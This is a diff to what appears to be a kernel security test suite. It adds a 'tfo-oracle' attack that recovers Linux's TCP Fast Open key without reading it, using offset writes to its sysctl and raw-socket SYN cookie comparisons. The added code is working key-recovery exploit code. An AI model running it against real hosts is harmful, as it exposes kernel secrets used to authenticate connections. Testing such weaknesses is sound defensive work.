@@ -9,6 +9,14 @@
  * as the first listener asks for Fast Open (tcp_fastopen_init_key_once()),
  * read back from the sysctl net.ipv4.tcp_fastopen_key.
  *
+ * tfo-oracle: the same key, never read: a write at an offset keeps what
+ * the sysctl's buffer held before it (proc_dostring() with
+ * kernel.sysctl_writes_strict), and proc_tcp_fastopen_key() fills that
+ * buffer with the key it holds. pwrite(GUESS + KNOWN, at P) installs
+ * key[0, P) + GUESS + KNOWN, and the Fast Open cookie a listener hands a
+ * raw SYN tells whether that is the key it had: the key, a hex digit at a
+ * time from its end, and the kernel's key as it was when done.
+ *
  * seg6-hmac: an SRv6 HMAC secret, set as a router's daemon would
  * (SEG6_CMD_SETHMAC) and read back from SEG6_CMD_DUMPHMAC, over generic
  * netlink (net/ipv6/seg6.c; a kernel without CONFIG_IPV6_SEG6_HMAC says
@@ -21,11 +29,15 @@
 #include <linux/netlink.h>
 #include <linux/seg6_genl.h>
 #include <linux/seg6_hmac.h>
+#include <net/if.h>
 #include <netinet/in.h>
+#include <netinet/ip.h>
 #include <netinet/tcp.h>
+#include <poll.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/socket.h>
 #include <unistd.h>
 
@@ -113,6 +125,198 @@ static void run_tfo_key(struct aresult *o, int argc, char **argv)
 	else
 		shown(o, "read the kernel's TCP Fast Open key from net.ipv4.tcp_fastopen_key: "
 		      "%.17s...", key);
+}
+
+#define ORACLE_PORT	4567
+#define TCPOPT_FASTOPEN	34
+
+/* The one's complement sum of @len bytes at @p, from @sum. */
+static uint32_t sum16(const uint8_t *p, size_t len, uint32_t sum)
+{
+	for (; len > 1; p += 2, len -= 2)
+		sum += (uint32_t)p[0] << 8 | p[1];
+	if (len)
+		sum += (uint32_t)p[0] << 8;
+	return sum;
+}
+
+/*
+ * A SYN from the raw socket @raw to the listener, asking for a Fast Open
+ * cookie (an empty cookie option), and the cookie of its SYN-ACK into
+ * @cookie: 0, or -1.
+ */
+static int tfo_cookie(int raw, uint16_t sport, uint8_t cookie[8])
+{
+	uint8_t pkt[sizeof(struct tcphdr) + 8] = { 0 }, ph[12] = { 0 }, buf[2048];
+	uint8_t opts[8] = { 2, 4, 0x05, 0xb4, TCPOPT_FASTOPEN, 2, 1, 1 };
+	struct tcphdr *th = (struct tcphdr *)pkt;
+	struct sockaddr_in dst = { .sin_family = AF_INET,
+				   .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	uint32_t lo = htonl(INADDR_LOOPBACK), sum;
+
+	th->source = htons(sport);
+	th->dest = htons(ORACLE_PORT);
+	th->seq = htonl(0x1d0c0000 | sport);
+	th->syn = 1;
+	th->window = htons(65535);
+	th->doff = sizeof(pkt) / 4;
+	memcpy(pkt + sizeof(*th), opts, sizeof(opts));
+	memcpy(ph, &lo, 4);
+	memcpy(ph + 4, &lo, 4);
+	ph[9] = IPPROTO_TCP;
+	ph[11] = sizeof(pkt);
+	sum = sum16(pkt, sizeof(pkt), sum16(ph, sizeof(ph), 0));
+	while (sum >> 16)
+		sum = (sum & 0xffff) + (sum >> 16);
+	th->check = htons((uint16_t)~sum);
+	if (sendto(raw, pkt, sizeof(pkt), 0, (struct sockaddr *)&dst, sizeof(dst)) < 0)
+		return -1;
+	for (int tries = 0; tries < 50; tries++) {
+		struct pollfd pf = { .fd = raw, .events = POLLIN };
+		struct tcphdr *r;
+		uint8_t *o, *end;
+		ssize_t n;
+		size_t ihl;
+
+		if (poll(&pf, 1, 500) <= 0)
+			return -1;
+		n = recv(raw, buf, sizeof(buf), 0);
+		if (n < (ssize_t)sizeof(struct iphdr))
+			continue;
+		ihl = ((struct iphdr *)buf)->ihl * 4;
+		if ((size_t)n < ihl + sizeof(*r))
+			continue;
+		r = (struct tcphdr *)(buf + ihl);
+		if (ntohs(r->source) != ORACLE_PORT || ntohs(r->dest) != sport || !r->syn || !r->ack)
+			continue;
+		o = (uint8_t *)(r + 1);
+		end = (uint8_t *)r + r->doff * 4;
+		if (end > buf + n)
+			return -1;
+		while (o < end && *o) {
+			if (*o == 1) {
+				o++;
+				continue;
+			}
+			if (o + 1 >= end || o[1] < 2)
+				break;
+			if (o[0] == TCPOPT_FASTOPEN && o[1] == 10) {
+				memcpy(cookie, o + 2, 8);
+				return 0;
+			}
+			o += o[1];
+		}
+		return -1;
+	}
+	return -1;
+}
+
+/* pwrite(@s) at @pos into the key's sysctl: 0 or errno. */
+static int key_pwrite(const char *s, off_t pos)
+{
+	int fd = open(TFO_KEY_SYSCTL, O_WRONLY | O_CLOEXEC), err = 0;
+	ssize_t w;
+
+	if (fd < 0)
+		return errno;
+	w = pwrite(fd, s, strlen(s), pos);
+	if (w < 0)
+		err = errno;
+	if (close(fd) && !err)
+		err = errno;
+	return err;
+}
+
+/* Recover the key a digit at a time, from position 34 (its last) to 0. */
+static void tfo_recover(struct aresult *o, int raw)
+{
+	uint8_t c0[8], c[8];
+	char known[40] = "", t[40];
+	uint16_t sport = 20000;
+	int writes = 0, err;
+
+	if (tfo_cookie(raw, sport++, c0)) {
+		failed(o, "no Fast Open cookie for a SYN to the listener");
+		return;
+	}
+	for (int p = 34; p >= 0; p--) {
+		int found = -1;
+
+		if (p == 8 || p == 17 || p == 26) {
+			snprintf(t, sizeof(t), "-%s", known);
+			strcpy(known, t);
+			continue;
+		}
+		for (int g = 0; g < 16 && found < 0; g++) {
+			snprintf(t, sizeof(t), "%x%s", g, known);
+			err = key_pwrite(t, p);
+			if (err) {
+				errno_outcome(o, err, "a write of the key at an offset");
+				return;
+			}
+			writes++;
+			if (tfo_cookie(raw, sport++, c) && tfo_cookie(raw, sport++, c)) {
+				failed(o, "no Fast Open cookie after %d writes", writes);
+				return;
+			}
+			if (!memcmp(c, c0, sizeof(c)))
+				found = g;
+		}
+		if (found < 0) {
+			refused(o, "no digit at %d gives the cookie back: what the write keeps "
+				"is not the kernel's key", p);
+			return;
+		}
+		snprintf(t, sizeof(t), "%x%s", found, known);
+		strcpy(known, t);
+	}
+	if (tfo_cookie(raw, sport++, c) || memcmp(c, c0, sizeof(c)))
+		failed(o, "recovered %s, but the cookie no longer matches", known);
+	else
+		shown(o, "the kernel's Fast Open key recovered, never read, in %d writes: "
+		      "%.17s...", writes, known);
+}
+
+static void run_tfo_oracle(struct aresult *o, int argc, char **argv)
+{
+	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(ORACLE_PORT),
+				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	int l, raw, one = 1, qlen = 1024, err;
+	char was[32];
+
+	(void)argc;
+	(void)argv;
+	err = sysctl_read(TFO_SYSCTL, was, sizeof(was));
+	if (err == ENOENT) {
+		unavailable(o, "no %s in this kernel", TFO_SYSCTL);
+		return;
+	}
+	if (err || (err = sysctl_write(TFO_SYSCTL, "3"))) {
+		errno_outcome(o, err, "net.ipv4.tcp_fastopen");
+		return;
+	}
+	l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	/* the SYNs go over loopback, which the test VM leaves down */
+	if (l >= 0) {
+		struct ifreq ifr = { .ifr_name = "lo" };
+
+		if (!ioctl(l, SIOCGIFFLAGS, &ifr) && !(ifr.ifr_flags & IFF_UP)) {
+			ifr.ifr_flags |= IFF_UP;
+			ioctl(l, SIOCSIFFLAGS, &ifr);
+		}
+	}
+	raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_TCP);
+	if (l < 0 || raw < 0 || setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) ||
+	    bind(l, (struct sockaddr *)&a, sizeof(a)) ||
+	    setsockopt(l, IPPROTO_TCP, TCP_FASTOPEN, &qlen, sizeof(qlen)) || listen(l, 1024))
+		failed(o, "a Fast Open listener and a raw socket: %s", strerror(errno));
+	else
+		tfo_recover(o, raw);
+	if (l >= 0)
+		close(l);
+	if (raw >= 0)
+		close(raw);
+	sysctl_write(TFO_SYSCTL, was);
 }
 
 /* A generic netlink request: @q started as @type (a family id), then @cmd. */
@@ -269,6 +473,8 @@ static void run_seg6_hmac(struct aresult *o, int argc, char **argv)
 const struct attack attacks_keys[] = {
 	{ "tfo-key", "the kernel's random TCP Fast Open key read back from its sysctl",
 	  run_tfo_key },
+	{ "tfo-oracle", "the kernel's TCP Fast Open key recovered through writes at an offset "
+	  "and the cookies it makes", run_tfo_oracle },
 	{ "seg6-hmac", "an SRv6 HMAC secret read back with SEG6_CMD_DUMPHMAC", run_seg6_hmac },
 	{ 0 }
 };
